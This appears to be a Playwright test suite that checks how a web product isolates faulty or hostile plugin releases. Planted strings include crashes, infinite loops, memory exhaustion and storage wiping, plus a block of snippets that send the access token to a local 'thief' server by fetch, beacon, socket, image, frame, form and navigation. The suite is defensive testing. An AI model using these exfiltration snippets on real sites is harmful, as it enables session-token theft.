import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { type ComposedProduct, composeProduct } from '@sodalizio/build';
import { port } from '../support/address.ts';
import { reports } from '../support/area-faults.ts';
import { expectAccessible } from '../support/axe.ts';
import { frozenProcess } from '../support/frozen-page.ts';
import {
  byTeam,
  expectReport,
  garden,
  goLive,
  live,
  menu,
  nothingElseNotices,
  openGarden,
  openTab,
  profileGoesOn,
  profileWithTab,
  publishNext,
  reportsOn,
  tab,
  tabFirst,
  works,
} from '../support/garden.ts';
import {
  atLogin,
  expect,
  logOutByHand,
  people,
  putSession,
  type SignedIn,
  signIn,
  test,
  tokensOf,
} from '../support/people.ts';
import type { Planted } from '../support/planted-area.ts';
import { openProfileTab } from '../support/profile.ts';

/**
 * Releases of a careless or hostile neighbour, live in a real product: what staff see, what its team is told, and that nothing
 * else notices. Those that the server refuses are tested there (docs/area-code.md names every kind with its test).
 */
const ownPort = port + 23;
test.use({ baseURL: `http://127.0.0.1:${ownPort}` });
test.describe.configure({ mode: 'default' });

let product: ComposedProduct | undefined;
let superadmin: SignedIn;

test.beforeAll(async ({ playwright }) => {
  product = await composeProduct(['mf-associates'], { port: ownPort });
  const request = await playwright.request.newContext({ baseURL: product.address });
  superadmin = await openGarden(request);
  await request.dispose();
});
test.afterAll(async () => product?.stop());
test.beforeEach(async ({ page, tolerated }) => {
  // Whatever the planted code logs is its own.
  tolerated.pattern = /./;
  await putSession(page, superadmin);
});

test('a good one is shown, in its screen and in a member’s profile', async ({ page }) => {
  await page.goto(garden);
  await works(page);
  await nothingElseNotices(page);
  await openTab(page);
  await expect(tab(page).getByText('Le rose fioriscono')).toBeVisible();
});

test('one that was built for the contract before runs like any other', async ({ page, request }) => {
  await goLive(request, { contract: 0, says: 'Le rose di una volta' });
  await page.goto(garden);
  await works(page, 'Le rose di una volta');
  await live(request, '2.0.0');
});

/** Staff see the release before it, in a fresh tab, in both places. */
const replaced: Record<string, Planted & { cause: string; detail: RegExp }> = {
  'has garbage for its code': { entry: '<!doctype html><p>502', cause: 'threw-on-load', detail: /Unexpected token/ },
  'throws at import': { onImport: 'throw new Error("spine")', cause: 'threw-on-load', detail: /spine/ },
  'never ends its import': { onImport: 'await new Promise(() => {});', cause: 'hung', detail: /no answer/ },
  'throws in render': { onRender: 'throw new Error("spine")', cause: 'threw-in-render', detail: /spine/ },
  'replaces fetch': {
    onImport: 'window.fetch = async () => new Response("{}");',
    cause: 'threw-on-load',
    detail: /fetch/,
  },
  'replaces timers': { onImport: 'window.setTimeout = () => 0;', cause: 'threw-on-load', detail: /setTimeout/ },
  'replaces the history': {
    onImport: 'const old = history.pushState; History.prototype.pushState = () => {};',
    ...{ cause: 'threw-on-load', detail: /pushState/ },
  },
  'replaces storage': {
    onImport: 'Storage.prototype.getItem = () => null;',
    ...{ cause: 'threw-on-load', detail: /getItem/ },
  },
  'replaces an observer': {
    onRender: 'window.ResizeObserver = class {};',
    ...{ cause: 'threw-in-render', detail: /ResizeObserver/ },
  },
};
for (const [kind, { cause, detail, ...planted }] of Object.entries(replaced))
  test(`one that ${kind} is replaced by the one before, and its team is told`, async ({ page, context, request }) => {
    const bad = await goLive(request, { ...planted, says: 'La nuova' });
    await page.goto(garden);
    const inScreen = async () => {
      await works(page);
      await nothingElseNotices(page);
    };
    const inTab = async () => {
      const other = await tabFirst(context);
      await expect(tab(other.page).getByText('Le rose fioriscono')).toBeVisible();
      await other.reported(cause);
      await profileGoesOn(other.page);
    };
    await Promise.all([inScreen(), inTab()]);
    await expectReport(request, bad, cause, detail);
    await live(request, '2.0.0');
  });

/** The release stays in sight, and its team is told of an error outside of rendering. */
const later: Record<string, Planted & { detail: RegExp }> = {
  'throws in a handler': { onClick: 'throw new Error("spine nel gesto")', detail: /spine nel gesto/ },
  'throws in a timer': {
    onClick: 'setInterval(() => { throw new Error("spine nel tempo"); }, 50);',
    detail: /spine nel tempo/,
  },
  'leaves a rejection to nobody': {
    onClick: 'Promise.reject(new Error("spine promesse"));',
    detail: /spine promesse/,
  },
};
for (const [kind, { detail, ...planted }] of Object.entries(later))
  test(`one that ${kind} stays in sight, and its team is told`, async ({ page, context, request }) => {
    const bad = await goLive(request, { ...planted, says: 'La nuova' });
    await page.goto(garden);
    await works(page, 'La nuova');
    const inScreen = async () => {
      await page.getByRole('button', { name: 'Premi' }).click();
      await expectReport(request, bad, 'threw-later', detail);
      await works(page, 'La nuova');
      await nothingElseNotices(page);
    };
    const inTab = async () => {
      const other = await tabFirst(context);
      await tab(other.page).getByRole('button', { name: 'Premi' }).click();
      await other.reported('threw-later');
      await expect(tab(other.page).getByText('La nuova')).toBeVisible();
      await profileGoesOn(other.page);
    };
    await Promise.all([inScreen(), inTab()]);
    await live(request, '2.0.0');
  });

/** A page whose renderer is busy for ever, or died: no code in it can tell. */
const freezing = {
  'loops at import': { onImport: 'for (;;);' },
  'loops in render': { onRender: 'for (;;);' },
  'fills the memory': { onRender: 'const all = []; for (;;) all.push(new Array(1e6).fill(all.length));' },
} satisfies Record<string, Planted>;
const places = {
  'its screen': { at: () => garden, shows: (page: Page) => works(page), goesOn: nothingElseNotices },
  'a member’s tab': {
    at: profileWithTab,
    shows: (page: Page) => expect(tab(page).getByText('Le rose fioriscono')).toBeVisible(),
    goesOn: profileGoesOn,
  },
};
for (const [kind, planted] of Object.entries(freezing))
  for (const [place, { at, shows, goesOn }] of Object.entries(places))
    test(`one that ${kind} in ${place} freezes one tab, and is replaced in the next`, async ({
      page,
      context,
      request,
    }) => {
      const bad = await goLive(request, { ...planted, says: 'La nuova' });
      await page.goto('/admin/settings');
      // Still at work, it could be taken for the frozen one.
      await expect(page.getByRole('heading', { level: 1, name: 'Impostazioni' })).toBeVisible();
      // Of the same browser, so with the same session.
      const frozen = await context.newPage();
      let gone = false;
      frozen.once('crash', () => {
        gone = true;
      });
      await frozen.goto(at(), { waitUntil: 'commit' });
      const mark = () => page.evaluate(() => localStorage.getItem('sodalizio.opening.garden'));
      await expect.poll(mark).toContain(bad);
      // As a person, or the system, ends the tab; full memory may end it before.
      const busy = await frozenProcess(context.browser(), 2.5, () => gone);
      if (busy !== undefined) process.kill(busy, 'SIGKILL');
      await expect.poll(() => gone).toBe(true);
      expect(await mark()).toContain(bad);
      const fresh = await context.newPage();
      const reported = reports(fresh, 'garden');
      await fresh.goto(at());
      await shows(fresh);
      await reported('froze');
      await expectReport(request, bad, 'froze', /froze/);
      await goesOn(fresh);
      await live(request, '2.0.0');
    });

test('one that blocks the page for eight seconds comes late, and its team is told', async ({
  page,
  context,
  request,
}) => {
  const block = 'const end = Date.now() + 8000; while (Date.now() < end);';
  const bad = await goLive(request, { onImport: block, says: 'La nuova' });
  await page.goto(garden, { waitUntil: 'commit' });
  const inScreen = async () => {
    await expect(page.getByText(/La nuova|Le rose fioriscono/)).toBeVisible();
    await nothingElseNotices(page);
  };
  const inTab = async () => {
    const other = await tabFirst(context);
    await expect(tab(other.page).getByText(/La nuova|Le rose fioriscono/)).toBeVisible();
    await other.reported('hung');
    await profileGoesOn(other.page);
  };
  await Promise.all([inScreen(), inTab()]);
  await expectReport(request, bad, 'hung', /it opened after \d{4,} ms|no answer within 5000 ms/);
  await live(request, '2.0.0');
});

test('one that never clears its interval runs alone: other areas go on, and nothing is reported', async ({
  page,
  request,
}) => {
  const bad = await goLive(request, { onRender: 'setInterval(() => { window.rings = (window.rings ?? 0) + 1; }, 5);' });
  await page.goto(garden);
  await works(page);
  await nothingElseNotices(page);
  const rings = () => page.evaluate(() => Reflect.get(window, 'rings'));
  const before = await rings();
  await expect.poll(rings).toBeGreaterThan(before);
  await page.reload();
  await nothingElseNotices(page);
  await openTab(page);
  await expect.poll(rings).toBeGreaterThan(1);
  await profileGoesOn(page);
  expect(await reportsOn(request, bad)).toEqual({});
  await live(request, '2.0.0');
});

test('one that empties the storage empties its own: session, drafts and choices stay', async ({
  page,
  context,
  request,
}) => {
  const kept = { 'sodalizio.draft.1.prova': '{}', 'sodalizio.choice': '1' };
  const each = 'Object.keys(localStorage).forEach((key) => localStorage.removeItem(key));';
  const bad = await goLive(request, {
    onClick: `localStorage.setItem('mine', '1'); localStorage.clear(); ${each} localStorage.setItem('access_token', 'x');`,
    says: 'La nuova',
  });
  await page.goto(garden);
  await works(page, 'La nuova');
  await page.evaluate((all) => {
    for (const [key, value] of Object.entries(all)) localStorage.setItem(key, value);
  }, kept);
  const session = () =>
    page.evaluate(() => [localStorage.getItem('access_token'), localStorage.getItem('session_token')]);
  const before = await session();
  await page.getByRole('button', { name: 'Premi' }).click();
  await expectReport(request, bad, 'meddled', /localStorage\.(clear|removeItem|setItem)/);
  expect(await session()).toEqual(before);
  const drafts = await page.evaluate(() => Object.keys(localStorage).filter((key) => /^sodalizio\.draft/.test(key)));
  expect(drafts.toSorted()).toEqual(['sodalizio.draft.1.prova']);
  expect(await page.evaluate(() => localStorage.getItem('mine'))).toBeNull();
  const other = await tabFirst(context);
  await tab(other.page).getByRole('button', { name: 'Premi' }).click();
  await other.reported('meddled');
  expect(await session()).toEqual(before);
  await profileGoesOn(other.page);
  await page.reload();
  await works(page, 'La nuova');
  await live(request, '2.0.0');
});

test('text that somebody typed, and the session, are there again after all storage was deleted', async ({
  page,
  context,
  request,
}) => {
  const onClick = 'for (const key of Object.keys(localStorage)) delete localStorage[key];';
  await goLive(request, { onClick, says: 'La nuova' });
  await page.goto('/admin/associates');
  await page.getByRole('button', { name: 'Cerca', exact: true }).click();
  await page.getByRole('row').nth(1).getByRole('link').first().click();
  await openProfileTab(page, 'Recapiti');
  await page.getByRole('button', { name: 'Modifica dati' }).click();
  const phone = page.getByRole('dialog').getByRole('textbox', { name: 'Telefono' }).first();
  await phone.fill('');
  await phone.pressSequentially('0612345');
  const drafts = () => page.evaluate(() => Object.keys(localStorage).filter((key) => /draft/.test(key)).length);
  await expect.poll(drafts).toBe(1);
  const opened = page.url();

  const other = await context.newPage();
  await other.goto(garden);
  await works(other, 'La nuova');
  await other.getByRole('button', { name: 'Premi' }).click();
  await expect.poll(drafts).toBe(0);
  const fresh = await context.newPage();
  // Its address names the open form.
  await fresh.goto(opened);
  await expect(fresh.getByRole('dialog').getByRole('textbox', { name: 'Telefono' }).first()).toHaveValue('0612345');
  await expect(fresh.getByText(/Bozza ripristinata/)).toBeVisible();
  await live(request, '2.0.0');
});

test('a session that ended does not come back, in whichever tab, and after whatever an area deleted', async ({
  browser,
  request,
}) => {
  const onClick = 'for (const key of Object.keys(localStorage)) delete localStorage[key];';
  await goLive(request, { onClick, says: 'La nuova' });
  const context = await browser.newContext({ baseURL: `http://127.0.0.1:${ownPort}` });
  const page = await context.newPage();
  await signIn(page, 'admin');
  await page.goto(garden);
  await works(page, 'La nuova');
  const other = await context.newPage();
  await other.goto(garden);
  await works(other, 'La nuova');
  await other.getByRole('button', { name: 'Premi' }).click();
  await expect.poll(() => page.evaluate(() => localStorage.getItem('access_token'))).toBeNull();
  // The server does not hear of it: only the browser can forget.
  await page.route('**/api/logout', (route) => route.abort());
  await logOutByHand(page);
  await atLogin(other);
  const fresh = await context.newPage();
  await fresh.goto(garden);
  await atLogin(fresh);
  const left = () => fresh.evaluate(() => Object.keys(localStorage).filter((key) => /token|ended/.test(key)));
  await expect.poll(left).toEqual([]);
  // The next person's session is theirs alone.
  await putSession(fresh, await tokensOf(request, 'secretary'));
  await fresh.goto(garden);
  await works(fresh, 'La nuova');
  await fresh.getByRole('button', { name: 'Premi' }).click();
  await fresh.reload();
  await works(fresh, 'La nuova');
  await expect(fresh.getByRole('button', { name: /^Menu personale/ })).toBeVisible();
  const email = () =>
    fresh.evaluate(async () => {
      const [token, session] = ['access_token', 'session_token'].map((key) => localStorage.getItem(key) ?? '');
      const headers = { Authorization: `Bearer ${token}`, sessionToken: session ?? '' };
      return (await (await fetch('/api/user', { headers })).json()).email;
    });
  expect(await email()).toBe(people.secretary.email);
  await context.close();
  await live(request, '2.0.0');
});

for (const [kind, onClick] of Object.entries({
  'an element made by a script':
    'const made = document.createElement("style"); made.textContent = "body { background: red } .garden_rose { color: red }"; document.head.append(made);',
  'a rule inserted later':
    'const made = document.createElement("style"); document.head.append(made); made.sheet.insertRule("body { background: red }");',
  'an element that arrives as markup':
    'button.parentElement.querySelector("p").innerHTML += "<style>body { background: red }</style>";',
}))
  test(`styles that leave the area are taken out and reported: ${kind}`, async ({ page, context, request }) => {
    const bad = await goLive(request, { onClick, says: 'La nuova' });
    await page.goto(garden);
    await works(page, 'La nuova');
    await page.getByRole('button', { name: 'Premi' }).click();
    await expectReport(request, bad, 'style-leak', /body/);
    const other = await tabFirst(context);
    await tab(other.page).getByRole('button', { name: 'Premi' }).click();
    // Of the area whose part it is, not of Soci.
    await other.reported('style-leak');
    for (const each of [page, other.page])
      expect(await each.evaluate(() => getComputedStyle(document.body).backgroundColor)).not.toBe('rgb(255, 0, 0)');
    await live(request, '2.0.0');
  });

test.describe('what a page knows does not leave it', () => {
  const heard: string[] = [];
  const thief = createServer((request, response) => {
    heard.push(String(request.url));
    response.end('ok');
  });
  const thiefPort = ownPort + 1;
  test.beforeAll(() => new Promise<void>((resolve) => thief.listen(thiefPort, '127.0.0.1', resolve)));
  test.afterAll(() => new Promise((resolve) => thief.close(resolve)));

  const to = `'http://127.0.0.1:${thiefPort}/?' + localStorage.getItem('access_token')`;
  const link = (target: string) =>
    `const link = document.createElement('a'); link.href = ${to}; link.target = '${target}'; document.body.append(link); link.click();`;
  const ways: Record<string, { by: string; detail: RegExp | undefined; refused?: RegExp }> = {
    'a call': { by: `fetch(${to}).catch(() => {});`, detail: /^connect-src/ },
    'a beacon': { by: `navigator.sendBeacon(${to}, 'x');`, detail: /^connect-src/ },
    'a socket': { by: `try { new WebSocket(${to}.replace('http', 'ws')); } catch {}`, detail: /^connect-src/ },
    // The browser does not say whose.
    'a picture': { by: `new Image().src = ${to};`, detail: undefined, refused: /^img-src/ },
    'a script': { by: `import(${to}).catch(() => {});`, detail: /^script-src/ },
    'a frame': {
      by: `const frame = document.createElement('iframe'); frame.src = ${to}; document.body.append(frame);`,
      detail: /^frame-src/,
    },
    'a form': {
      by: `const form = document.createElement('form'); form.action = ${to}; form.method = 'post'; document.body.append(form); form.submit();`,
      detail: undefined,
      refused: /^(form-action|navigation)/,
    },
    'a window': { by: `window.open(${to});`, detail: /window\.open/ },
    'a link it opens': { by: link(''), detail: /link/ },
    'a link it opens elsewhere': { by: link('_blank'), detail: /link/ },
    'the address': { by: `location.href = ${to};`, detail: /navigation/ },
  };
  for (const [way, { by, detail, refused = /./ }] of Object.entries(ways))
    test(`by ${way}`, async ({ page, context, request }) => {
      const bad = await goLive(request, { onClick: by, says: 'La nuova' });
      await page.goto(garden);
      await works(page, 'La nuova');
      const other = await tabFirst(context);
      await expect(tab(other.page).getByText('La nuova')).toBeVisible();
      for (const each of [page, other.page]) {
        const before = new URL(each.url()).pathname;
        await each.evaluate(() => {
          const note = (refused: string) => Object.assign(window, { refused });
          document.addEventListener('securitypolicyviolation', (event) => note(event.effectiveDirective));
          const navigation: EventTarget = Reflect.get(window, 'navigation');
          navigation.addEventListener('navigate', (event) => note(event.defaultPrevented ? 'navigation' : ''));
        });
        // Playwright's click would wait for a navigation that never comes.
        await each.getByRole('button', { name: 'Premi' }).focus();
        await each.keyboard.press('Enter');
        if (!detail) await expect.poll(() => each.evaluate(() => Reflect.get(window, 'refused'))).toMatch(refused);
        else if (each === page) await expectReport(request, bad, 'meddled', detail);
        else await other.reported('meddled');
        // Not by a locator, which waits for the navigation that was refused.
        const here = await each.evaluate(() => [window.location.pathname, document.querySelector('main')?.textContent]);
        expect(here).toEqual([before, expect.stringContaining('La nuova')]);
      }
      expect(heard).toEqual([]);
      await live(request, '2.0.0');
    });

  test('a person’s own click on a link still leads there', async ({ page, request }) => {
    // Again and again: what it is rendered into may not be the page yet, and is replaced.
    const onRender = `setInterval(() => { if (document.getElementById('fuori')) return; const link = document.createElement('a'); link.id = 'fuori'; link.href = 'http://127.0.0.1:${thiefPort}/fuori'; link.textContent = 'Fuori'; document.querySelector('main').append(link); }, 200);`;
    await goLive(request, { onRender });
    await page.goto(garden);
    await page.getByRole('link', { name: 'Fuori' }).first().click();
    await expect.poll(() => heard).toContain('/fuori');
    await live(request, '2.0.0');
  });
});

test('text typed into a form that guards nothing stays when the area is switched off, and a reload asks', async ({
  page,
  context,
  request,
}) => {
  await page.goto(garden);
  await works(page);
  const field = page.getByRole('textbox', { name: 'Nome della rosa' });
  await field.pressSequentially('Rosa gallica');
  const { page: other } = await tabFirst(context);
  const inTab = tab(other).getByRole('textbox', { name: 'Nome della rosa' });
  await inTab.pressSequentially('Rosa canina');
  const off = (is: boolean) =>
    request.post('/api/areas/garden/off', { headers: byTeam(), data: { off: is, why: 'prova' } });
  expect((await off(true)).status()).toBe(200);
  for (const each of [page, other]) {
    await each.bringToFront();
    // What a person does makes the page ask, once its last answer is some seconds old.
    await expect(async () => {
      await each.mouse.move(10, 10);
      await each.keyboard.press('Shift');
      await expect(menu(each).getByRole('link', { name: 'Giardino' })).toHaveCount(0, { timeout: 300 });
    }).toPass();
  }
  await expect(inTab).toHaveValue('Rosa canina');
  // Once the text is gone, so is the tab.
  await inTab.fill('');
  await expect(other.getByRole('tab', { name: 'Rose' })).toHaveCount(0);
  await page.bringToFront();
  await expect(field).toHaveValue('Rosa gallica');
  const asked = page.waitForEvent('dialog');
  await page.evaluate(() => void setTimeout(() => window.location.reload()));
  await (await asked).dismiss();
  await expect(field).toHaveValue('Rosa gallica');
  await menu(page).getByRole('link', { name: 'Soci' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Soci' })).toBeVisible();
  expect((await off(false)).status()).toBe(200);
});

test('one that is tried, and fails for those who try it, is not opened by the next; Impostazioni says so', async ({
  page,
  request,
  browser,
}) => {
  const title = 'Le rose di prova';
  const planted = { onImport: 'throw new Error("spine")', says: title };
  const { version: tried, release } = await publishNext(request, planted);
  const tries = async (role: 'superadmin' | 'admin' | 'secretary', { fails }: { fails: boolean }) => {
    const context = await browser.newContext({ baseURL: `http://127.0.0.1:${ownPort}` });
    const other = await context.newPage();
    const reported = reports(other, 'garden');
    const files: string[] = [];
    other.on('request', (one) => one.url().includes(`/garden/${tried}`) && files.push(one.url()));
    const { accessToken, sessionToken } = await signIn(other, role);
    // As after a login by hand: pages are for this person from now on.
    const headers = { Authorization: `Bearer ${accessToken}`, sessionToken };
    expect((await other.request.get('/composition.json', { headers })).status()).toBe(200);
    await other.goto(garden);
    await works(other);
    // A page that ends takes a report that is still on its way with it.
    if (fails) await reported('threw-on-load');
    await context.close();
    return files;
  };
  const headers = byTeam();
  const trial = async (percent: number) => {
    const data = { release, percent, people: [], why: 'prova' };
    expect((await request.post('/api/areas/garden/canary', { headers, data })).status()).toBe(200);
  };
  await trial(100);
  for (const role of ['admin', 'secretary'] as const) expect(await tries(role, { fails: true })).not.toEqual([]);
  await expect.poll(() => reportsOn(request, tried)).toHaveProperty('threw-on-load');
  const failing = async () =>
    (await (await request.get('/api/areas/garden', { headers })).json()).canary.failing_until !== null;
  await expect.poll(failing).toBe(true);
  expect(await tries('superadmin', { fails: false })).toEqual([]);

  await page.goto('/admin/settings/garden');
  const notice = page.getByRole('alert', { name: `La versione ${tried} non funziona` });
  await expect(notice).toContainText('chi apre il programma trova la versione precedente');
  await expect(page.getByText(`La ${tried} non funziona`, { exact: true })).toBeVisible();
  await expectAccessible(page);
  await trial(0);
});

test('one that fails for two people is stopped for all, the superadmins are told, and one click insists', async ({
  page,
  request,
  browser,
}) => {
  const bad = await goLive(request, { onImport: 'throw new Error("spine")' });
  for (const role of ['admin', 'secretary'] as const) {
    const context = await browser.newContext({ baseURL: `http://127.0.0.1:${ownPort}` });
    const other = await context.newPage();
    const reported = reports(other, 'garden');
    await signIn(other, role);
    await other.goto(garden);
    await works(other);
    // Of this person, too: the first one's report is there already.
    await reported('threw-on-load');
    await context.close();
  }
  const liveVersion = async () =>
    (await (await request.get('/api/areas/garden', { headers: byTeam() })).json()).live.version;
  await expect.poll(liveVersion).toBe('2.0.0');
  await page.goto('/admin/settings/garden');
  const notice = page.getByRole('alert', { name: `La versione ${bad} è stata fermata` });
  await expect(notice).toContainText('non ha funzionato per 2 persone su 2. Tutti sono tornati alla 2.0.0.');
  await expect(notice).toContainText('superadmin@sodalizio.example');
  await notice.getByRole('button', { name: `Rimetti in uso la ${bad}` }).click();
  await page.getByRole('textbox', { name: 'Motivo' }).fill('Serve per una prova');
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /Metti in uso/ })
    .click();
  await expect.poll(liveVersion).toBe(bad);
  await expect(notice).toHaveCount(0);
  await live(request, '2.0.0');
});
